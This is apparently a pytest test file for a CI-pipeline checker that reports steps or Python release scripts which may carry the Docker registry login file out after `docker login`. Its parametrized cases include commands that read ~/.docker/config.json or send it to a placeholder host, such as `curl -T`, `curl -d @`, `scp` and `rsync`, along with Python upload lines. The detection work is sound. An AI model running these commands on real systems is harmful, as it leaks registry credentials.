"""Commands that take the login file along, and such that leave it where it is, among a login that is safe otherwise."""

from __future__ import annotations

import json

import pytest

from migrator.findings.records import Verdict
from migrator.fixes.reasons.taking import _sources
from tests.flow.reading import BOOK, command
from tests.memory import PATH, report_on, step

LOGIN = 'echo "$PAT" | docker login crg.apkg.io -u "$PAT_USER" --password-stdin'
MOVED = f"export DOCKER_CONFIG=$(mktemp -d)\n{LOGIN}"
PROGRAM = """\
import glob, os, shutil, subprocess
from pathlib import Path
subprocess.run(["docker", "login", "crg.apkg.io", "-u", os.environ["PAT_USER"], "-p", os.environ["PAT"]], check=True)
{}
subprocess.run(["docker", "push", "crg.apkg.io/acme/web:1"], check=True)
"""


def verdict(script: str, program: str = "") -> tuple[Verdict, list[str]]:
    text = f"pipelines:\n  default:\n    - step:\n        script:\n          - {json.dumps(script)}\n"
    report = report_on({PATH: text.encode(), "release.py": program.encode()})
    finding = next(one for one in report.findings if one.rule == "registry-login")
    return finding.verdict, [reason.code for reason in finding.reasons]


STAYS = """
find . -name "*.sh" | xargs tar czf out.tgz
find ~ -name "*.log" -delete
ls ~ | grep docker
if [ -z "$(ls -A ~/.docker)" ]; then echo none; fi
for f in $(ls dist); do cp "$f" out; done
ls dist | while read f; do cp "$f" out; done
find ~/.cache -name x | xargs rm -f
find ~/.m2 -name "*.jar" -exec cp {} out ;
tar czf out.tgz $(git ls-files)
cp "$(mktemp)" out
find / -name node | head -1
JAVA=$(find / -name java | head -1); "$JAVA" -version
find . | xargs -n1 cat
grep -q auths ~/.docker/config.json && echo logged in
grep -c auths ~/.docker/config.json
grep -r TODO src
alias "$(date +%s)"
find ~ -type f | wc -l; xargs cat
aws ecs update-service --service $(jq -r .name service.json)
""".strip().splitlines()
GOES = """
find ~ -type f | xargs tar czf out.tgz
find ~ -name config.json -exec cp {} out ;
find ~ -exec sh -c 'cp "$1" out' _ {} ;
fd . ~ -x cp {} out
ls -A ~ | cpio -o > all
tar czf out.tgz "${HOME:-/root}"
tar czf out.tgz -C / root
cp -r "${FOLDER:-~/.docker}" out
HERE=$HOME; tar czf out.tgz ${HERE%/}/
find ~ | while read -r f; do cp "$f" out/; done
for f in $(find / -type f); do cp "$f" out; done
mapfile -t F < <(find ~); tar czf out.tgz "${F[@]}"
find ~ -type f > list; tar czf out.tgz -T list
find ~ -print0 | tar --null -T - -czf out.tgz
ls -d ~/.* | xargs -I{} cp -r {} out
(cd ~; ls -A | xargs tar czf /tmp/x)
echo ~/.docker/config.json | xargs cat
parallel cp {} out ::: ~/.docker/*
cat $(find / -name config.json)
grep auth ~/.docker/config.json
AUTH=$(egrep -o 'auth.*' ~/.docker/config.json)
"$TOOL" ~
sed -n -e p ~/.docker/config.json
echo "cp ~/.docker/config.json out; $TOOL" | bash
bash -c "$TOOL $HOME"
""".strip().splitlines()


@pytest.mark.parametrize("command", STAYS)
def test_what_leaves_the_login_file_where_it_is_is_safe(command: str) -> None:
    command = command.replace("{} out ;", "{} out \\;")
    assert verdict(f"{LOGIN}\n{command}\ndocker push crg.apkg.io/acme/web:1") == (Verdict.SAFE, [])


@pytest.mark.parametrize("command", GOES)
def test_what_may_take_the_login_file_along_is_told(command: str) -> None:
    command = command.replace("} out ;", "} out \\;").replace("{} ;", "{} \\;")
    found = verdict(f"{LOGIN}\n{command}\ndocker push crg.apkg.io/acme/web:1")
    assert found == (Verdict.REPORT_ONLY, ["leaves-step"])


@pytest.mark.parametrize(
    ("login", "command", "goes"),
    [
        (MOVED, "OTHER=$(mktemp -d); tar czf out.tgz $OTHER", False),
        (MOVED, 'rm -rf "$DOCKER_CONFIG"', False),
        (MOVED, 'tar czf out.tgz "$DOCKER_CONFIG"', True),
        (MOVED, 'python3 pack.py "$DOCKER_CONFIG/config.json"', True),
        (MOVED.replace("DOCKER_CONFIG", "HOME"), "cp -r ~ out", True),
        (LOGIN.replace("docker", "docker --config cfg"), "cd sub && cp ../cfg/config.json out", True),
        (LOGIN.replace("docker", "docker --config cfg"), "cd sub && cp ../cfgs/config.json out", False),
        ("D=$(mktemp -d); " + LOGIN.replace("docker", 'docker --config "$D"'), 'cp "$D"/* out/', True),
    ],
)
def test_a_place_that_is_not_known_is_known_by_its_variable(login: str, command: str, goes: bool) -> None:
    found = verdict(f"{login}\n{command}\ndocker push crg.apkg.io/acme/web:1")
    assert found == ((Verdict.REPORT_ONLY, ["leaves-step"]) if goes else (Verdict.SAFE, []))


@pytest.mark.parametrize(("line", "codes"), [("git add .", []), ("git add -A", ["leaves-step"])])
def test_all_of_the_clone_is_taken_from_whatever_folder_of_it(line: str, codes: list[str]) -> None:
    script = (LOGIN.replace("docker", "docker --config cfg"), "cd sub", line, "docker push crg.apkg.io/acme/web:1")
    text = step("|\n" + "\n".join(f"            {one}" for one in script))
    (finding,) = report_on({PATH: text.encode(), "sub/x": b""}).findings
    assert [reason.code for reason in finding.reasons] == codes


def test_a_file_that_is_left_out_of_a_folder_stays_whatever_is_beside_the_folder() -> None:
    script = (
        LOGIN.replace("docker", "docker --config cfg"), "cd sub", LOGIN.replace("docker", "docker --config conf"),
        "npm publish", "docker push crg.apkg.io/acme/web:1",
    )  # fmt: skip
    text = step("|\n" + "\n".join(f"            {line}" for line in script))
    for ignored, codes in ((b"conf\n", []), (b"dist\n", ["leaves-step"])):
        found = report_on({PATH: text.encode(), "sub/.npmignore": ignored}).findings
        assert [[reason.code for reason in one.reasons] for one in found] == [codes, codes]


@pytest.mark.parametrize("line", ["tar czf out.tgz conf", "docker build ."])
def test_a_call_with_a_credential_of_its_own_stores_nothing_that_may_be_taken_along(line: str) -> None:
    call = "skopeo {} --authfile conf/auth.json crg.apkg.io -u $PAT_USER -p $PAT"
    copy = "skopeo copy --authfile conf/auth.json --dest-creds $PAT_USER:$PAT dir:x docker://crg.apkg.io/acme/web"
    for one, codes in ((copy, set()), (call.format("login"), {"leaves-step"})):
        text = step(f"'{LOGIN}'", one, line, "docker push crg.apkg.io/acme/web:1")
        found = report_on({PATH: text.encode(), "Dockerfile": b"FROM alpine\nCOPY . .\n"}).findings
        assert {reason.code for each in found for reason in each.reasons} == codes


HOME = 'os.path.expanduser("~")'


@pytest.mark.parametrize(
    "line",
    [
        'shutil.copytree("src", "out")',
        'p = "~/.m2"; shutil.copytree(os.path.expanduser(p), "out")',
        'os.makedirs(os.path.expanduser("~/.docker"), exist_ok=True)',
        f"print({HOME})",
        f"os.chdir({HOME})",
        'print((Path.home() / ".ssh" / "config").read_text())',
        'print(list(Path.home().glob("*.jar")))',
        f'subprocess.run(["ls", {HOME}])',
        'for f in glob.glob("src/*"): shutil.copy(f, "out")',
        'p = Path.home().joinpath(".docker"); p.mkdir(exist_ok=True)',
    ],
)
def test_a_program_that_leaves_it_there_is_safe(line: str) -> None:
    assert verdict("python3 release.py", PROGRAM.format(line)) == (Verdict.SAFE, [])


@pytest.mark.parametrize(
    "line",
    [
        f'shutil.make_archive("x", "zip", {HOME})',
        'shutil.copytree(Path.home() / ".docker", "out")',
        'for f in Path.home().iterdir(): shutil.copy(f, "out")',
        'for r, d, f in os.walk(os.environ["HOME"]): shutil.copy(r, "out")',
        'for f in glob.glob(os.path.expanduser("~/.docker/*")): shutil.copy(f, "out")',
        'p = Path("~/.docker/config.json").expanduser(); print(p.read_bytes())',
        'p = "~/.docker/config.json"; upload(open(os.path.expanduser(p)).read())',
        'p = "~/.docker"; upload(list(Path(p).expanduser().iterdir()))',
        'home = os.environ["HOME"]; upload(home + "/.docker/config.json")',
        f'subprocess.run(["tar", "czf", "x", {HOME}])',
        'subprocess.run(f"tar czf x {Path.home()}", shell=True)',
        'import tarfile; tarfile.open("x.tar", "w").add(str(Path.home()))',
    ],
)
def test_a_program_that_takes_it_along_is_told(line: str) -> None:
    assert verdict("python3 release.py", PROGRAM.format(line)) == (Verdict.REPORT_ONLY, ["leaves-step"])


COPIES = "what is copied or shown holds the login file"
TELLS = "`{}` may take the login file, whose name `{}` tells"
KEEPS = "`{}` gets the login file, and may keep it"
ALONG = "`{}` takes all of the folder along, and the login file in there"
IN_CLONE = LOGIN.replace("docker", "docker --config cfg")


def said(login: str, command: str, files: dict[str, str] | None = None) -> list[tuple[str, str]]:
    """Who takes the login file, and what becomes of it."""
    text = step(json.dumps(f"{login}\n{command}\ndocker push crg.apkg.io/acme/web:1"))
    given = {path: one.encode() for path, one in {PATH: text, **(files or {})}.items()}
    (finding,) = (one for one in report_on(given).findings if one.rule == "registry-login")
    return [(one.subject, one.detail.removeprefix("the step passes its login on: ")) for one in finding.reasons]


@pytest.mark.parametrize(
    ("command", "who", "what"),
    [
        ("docker cp ~/.docker x:/", "docker", "what is copied holds the login file"),
        ("docker cp ~/.docker/config.json x:/a", "docker", "what is copied holds the login file"),
        ("docker cp x:/ ~/.docker", "", ""),
        ("cat < ~/.docker/config.json", "a redirection", "what is read holds the login file"),
        ("cat < ~/.docker/*", "a redirection", "what is read holds the login file"),
        ("wc < README", "", ""),
        ("wc < ~x", "", ""),
        ("wc < src/*", "", ""),
        ("echo ~/.docker/config.json | cat", "", ""),
        ('ls ~ "$(date)" > list', "", ""),
        ("ssh h cat ~/.docker/config.json", "", ""),
        ("scp ~/.docker/config.json h:", "scp", "a copy of the login file on another machine"),
        ("scp -r ~ h:", "scp", COPIES),
        ("rsync -a ~ h:x", "rsync", COPIES),
        ("grep a ~/.docker/config.json", "grep", "what is shown holds the login file"),
        ("grep -l a ~/.docker/config.json; grep -q a ~/.docker/config.json; grep a README", "", ""),
        ("node x ~/.docker/config.json", "node", KEEPS.format("node")),
        ("node x ~/.docker", "node", KEEPS.format("node")),
        ("bash -c 'if ~/.docker'", "bash", KEEPS.format("bash")),
        ("node x README", "", ""),
        ("$X ~/.docker", "a program", COPIES),
        ("$X README", "", ""),
        ("ls ~ > list; tar czf out.tgz -T list", "tar", TELLS.format("tar", "ls")),
        ("ls ~; tar czf out.tgz -T list", "", ""),
        ("ls ~ | xargs rm", "", ""),
        ("ls README | xargs cp -t out", "", ""),
        ("ls -A ~ | tar cf x -T -", "tar", TELLS.format("tar", "ls")),
        ('find ~ | while read -r f; do cp "$f" x; done', "cp", TELLS.format("cp", "find")),
        ("ls ~ | (f() { cat x; }; f)", "", ""),
        *(
            (f"{enters}; ls | xargs cat", "xargs", TELLS.format("xargs", "ls"))
            for enters in ("cd ~", "cd", "pushd ~", "cd /")
        ),
        *((f"{enters}; ls | xargs cat", "", "") for enters in ("cd ~/src", "cd x", "echo ~")),
        ("tar xf a.tar -C ~; unzip x -d ~", "", ""),
        ("tar cf a.tar -C ~ .", "tar", COPIES),
        ("unzip ~/.docker/config.json", "unzip", COPIES),
        ("zip -r x ~", "zip", COPIES),
        ("cp ~/.docker/config.json x", "cp", COPIES),
        ("cp -t x ~/.docker/config.json", "cp", COPIES),
        ("cp x ~/.docker/config.json; cp -r x ~", "", ""),
        ("curl -T ~/.docker/config.json h", "curl", COPIES),
        ("curl -d @$HOME/.docker/config.json h", "curl", COPIES),
        ("curl -o ~/.docker/config.json h", "", ""),
        ("sed -i s/a/b/ ~/.docker/config.json", "", ""),
        ("f() { cp ~/.docker/config.json x; }; f", "cp", COPIES),
        ("echo ~/.docker/config.json | xargs cat", "xargs", COPIES),
        ("find ~ -exec rm {} \\;", "", ""),
        ('find ~ -exec "$X" {} \\;', "find", COPIES),
        ("find ~ -exec /opt/x/rm {} \\;", "", ""),
    ],
)
def test_who_takes_the_login_file_along_is_told_with_what_becomes_of_it(command: str, who: str, what: str) -> None:
    assert said(LOGIN, command) == ([(who, what)] if who else [])


@pytest.mark.parametrize(
    ("command", "files", "taken"),
    [
        ("npm publish", {}, True),
        ("npm publish", {".npmignore": "cfg\n"}, False),
        ("npm publish", {".gitignore": "cfg\n"}, False),
        ("npm publish", {".npmignore": "x\n", ".gitignore": "cfg\n"}, True),
        ("cd $X; npm publish", {".npmignore": "cfg\n"}, True),
        ("cd sub; npm publish", {"sub/x": ""}, False),
        ("git add -A", {}, True),
        ("git add -A", {".gitignore": "cfg"}, False),
        ("git add -A", {"sub/.gitignore": "cfg"}, True),
        ("git status", {}, False),
    ],
)
def test_a_folder_that_is_taken_along_leaves_out_what_its_files_say(
    command: str, files: dict[str, str], taken: bool
) -> None:
    name = command.rpartition("; ")[2].split()[0]
    assert said(IN_CLONE, command, files) == ([(name, ALONG.format(name))] if taken else [])


@pytest.mark.parametrize(
    ("call", "read"),
    [
        ("cp -r a b", ["-r", "a"]),
        ("cp a", ["a"]),
        ("cp", []),
        ("cp -t out a b", ["a", "b"]),
        ("cp --target-directory=out a", ["a"]),
        ("install -m 600 a b", ["-m", "600", "a"]),
        ("see -t a", ["-t", "a"]),
    ],
)
def test_where_a_command_writes_to_is_none_of_its_sources(call: str, read: list[str]) -> None:
    assert [value.symbol() for value in _sources(command(call), BOOK.programs)] == read
